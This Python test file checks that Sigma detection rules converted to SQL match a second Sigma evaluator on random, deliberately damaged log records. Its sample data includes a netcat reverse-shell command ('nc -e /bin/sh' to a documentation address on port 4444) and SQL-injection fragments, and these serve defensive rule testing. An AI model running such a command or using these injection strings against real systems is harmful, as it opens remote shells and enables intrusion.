"""The SQL that rules become, held against a second reading of Sigma (tests/sigma_evaluator.py) on random records."""

import random
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.sigma_evaluator import Record, evaluator
from wachhund.judge.catalogue import rules_of
from wachhund.judge.fields import CATEGORIES
from wachhund.judge.matching import RuleMatcher
from wachhund.judge.rule import Rule
from wachhund.judge.rule_loading import BUILT_IN, load_rules

SEED = 20_260_801
BATCH = 250
HOSTILE = ["'", '"', "%", "_", "\\", "*", "?", "[", "\n", "\x1b[2J", "é", "İ", "\u212a", "\u202e", ";--", "' OR '1'='1",
           " ", "A" * 300]  # fmt: skip
ADDRESSES = ["127.0.0.1", "10.1.2.3", "172.31.255.1", "192.168.123.15", "169.254.1.1", "8.8.8.8", "::1", "fe80::1%eth0",
             "FE80::1", "fd00::1", "::ffff:10.0.0.1", "124.156.140.55", "not an address", ""]  # fmt: skip
Documents = Mapping[str, Mapping[str, Any]]  # rule id -> its YAML


def documents(folder: Path) -> dict[str, Mapping[str, Any]]:
    """Every rule below a folder that looks at one fact, as its YAML says."""
    found = {}
    for file in sorted(folder.rglob("*.yml")):
        for document in yaml.safe_load_all(file.read_text("utf-8")):
            for rule in rules_of(document["catalogue"]) if "catalogue" in document else [document]:
                if "detection" in rule:
                    found[str(rule["id"])] = rule
    return found


class Draw:
    """Records that rules nearly, or truly, match: made of what a random rule asks for, and then damaged."""

    def __init__(self, given: Documents, seed: int) -> None:
        self._random = random.Random(seed)
        self._by_category: dict[str, list[Mapping[str, Any]]] = {category: [] for category in CATEGORIES}
        for document in given.values():
            self._by_category[document["logsource"]["category"]].append(document)
        self._categories = [category for category, some in self._by_category.items() if some]

    def record(self) -> tuple[str, Record]:
        """One record and its category."""
        draw = self._random
        category = draw.choice([*self._categories, "process_creation", "process_creation", "process_creation"])
        known = CATEGORIES[category]
        made: dict[str, Any] = {}
        for document in draw.choices(self._by_category[category], k=draw.choice([1, 1, 1, 2])):
            self._follow(document["detection"], made)
        for column in known.columns:
            if column not in made and draw.random() < 0.5:
                made[column] = self._any(column)
        for column in list(made):
            if column not in known.columns:
                del made[column]  # nothing tells it
            elif draw.random() < 0.12:
                made[column] = draw.choice([None, self._any(column)])
            elif isinstance(made[column], str) and column not in known.numbers:
                made[column] = self._damaged(made[column])
        for column in known.numbers & set(made):
            made[column] = self._number(made[column])
        return category, {column: made.get(column) for column in known.columns}

    def _follow(self, detection: Mapping[str, Any], made: dict[str, Any]) -> None:
        """Fill in what most of a rule's selections want."""
        for name, given in detection.items():
            if name == "condition" or self._random.random() < (0.7 if name.startswith("filter") else 0.15):
                continue
            items = self._random.choice(given) if isinstance(given, list) else given
            for key, values in items.items() if isinstance(items, dict) else ():
                field, *modifiers = key.split("|")
                chosen = values if isinstance(values, list) else [values]
                wanted = chosen if "all" in modifiers else [self._random.choice(chosen)]
                for value in wanted:
                    self._put(field, modifiers, value, made)

    def _put(self, field: str, modifiers: list[str], value: Any, made: dict[str, Any]) -> None:
        if value is None or "exists" in modifiers:
            made.setdefault(field, None)
            return
        if "re" in modifiers:
            made[field] = str(made.get(field) or "") + self._random.choice(_SAMPLES)
            return
        if "cidr" in modifiers:
            made[field] = self._random.choice([value.partition("/")[0], *ADDRESSES])
            return
        text = re.sub(r"\\([*?\\])", r"\1", re.sub(r"(?<!\\)[*?]", "x", str(value)))
        before = str(made.get(field) or "")
        if "contains" in modifiers:
            made[field] = f"{before}{self._random.choice(['', ' ', 'x'])}{text}{self._random.choice(['', ' ', 'y'])}"
        elif "startswith" in modifiers:
            made[field] = text + before
        elif "endswith" in modifiers:
            made[field] = before + text
        else:
            made[field] = text

    def _any(self, column: str) -> Any:
        draw = self._random
        if column in ("SourceIp", "DestinationIp"):
            return draw.choice(ADDRESSES)
        if column in ("Initiated", "Deleted", "CommandLineCut"):
            return draw.choice(["true", "false"])
        return draw.choice([*HOSTILE, "/usr/bin/nc", "/bin/bash", "/usr/bin/x", "root", str(draw.randrange(70_000))])

    def _damaged(self, text: str) -> str:
        draw = self._random
        for _ in range(draw.choice([0, 0, 0, 1, 2])):
            place = draw.randrange(len(text) + 1)
            cut = place + draw.choice([0, 0, 1])
            text = text[:place] + draw.choice([*HOSTILE, "", "", text[place : place + 3].swapcase()]) + text[cut:]
        return text.swapcase() if draw.random() < 0.2 else text

    def _number(self, value: Any) -> int | None:
        try:
            return int(str(value)) + self._random.choice([0, 0, 0, 1, -1])
        except ValueError:
            return self._random.choice([None, 22, 4444, 51_820])


# Near what the regular expressions of the rules look for: they are not taken apart.
_SAMPLES = [
    "nc -e /bin/sh 203.0.113.9 4444", " -W '0a 1b 2c' ", " -R '0a1b'x", " -D", " -O ", " -F ", " -id /", " --inode ",
    " --directory ", "x" * 220,
]  # fmt: skip


def compare(given: Documents, folders: tuple[Path, ...], number: int) -> Iterator[tuple[str, bool]]:
    """Every match of either, by rule. Fails on the first difference, with what is needed to see it again."""
    pack = load_rules(folders)
    rules = {rule.id: rule for rule in pack.rules if rule.id in given}
    assert set(rules) == set(given)
    second = {name: evaluator(document) for name, document in given.items()}
    by_category: dict[str, list[Rule]] = {category: [] for category in CATEGORIES}
    for rule in rules.values():
        by_category[rule.category].append(rule)
    matcher = RuleMatcher(rules.values())
    assert matcher.unusable == []
    draw = Draw(given, SEED)
    for _ in range(0, number, BATCH):
        batch = [draw.record() for _ in range(BATCH)]
        rows = [(place, category, tuple(record.values())) for place, (category, record) in enumerate(batch)]
        found = {place: {rule.id for rule in hits} for place, hits in matcher.match(rows).items()}
        for place, (category, record) in enumerate(batch):
            for rule in by_category[category]:
                expected = second[rule.id](record)
                told = rule.id in found.get(place, ())
                assert told is expected, f"{rule.title}: SQL {told}, Sigma {expected}: {record!r}: {rule.sql}"
                if told:
                    yield rule.id, True


@pytest.mark.parametrize(
    ("number", "wanted"),
    [(500, 30), pytest.param(10_000, 120, marks=[pytest.mark.thorough, pytest.mark.timeout(400)])],
)
def test_sql_and_a_second_evaluator_say_the_same_of_random_records(sigma: Path, number: int, wanted: int) -> None:
    """One conversion judges and hunts; if it misreads Sigma, both are blind in the same place."""
    given = {**documents(BUILT_IN), **documents(sigma)}
    matched = {name for name, _ in compare(given, (BUILT_IN, sigma), number)}
    of_sigmahq = matched & set(documents(sigma))
    assert len(of_sigmahq) >= wanted, f"only {len(of_sigmahq)} rules matched anything: the records prove little"


def test_the_second_evaluator_is_no_mirror(sigma: Path) -> None:
    """It must tell a wrong conversion: one in which a filter was forgotten."""
    given = {name: dict(document) for name, document in documents(sigma).items()}
    broken = 0
    for document in given.values():
        detection = dict(document["detection"])
        if " and not " in str(detection["condition"]) and "(" not in str(detection["condition"]):
            detection["condition"] = detection["condition"].partition(" and not ")[0]
            document["detection"] = detection
            broken += 1
    assert broken
    with pytest.raises(AssertionError, match="SQL False, Sigma True"):
        list(compare(given, (sigma,), 2_000))
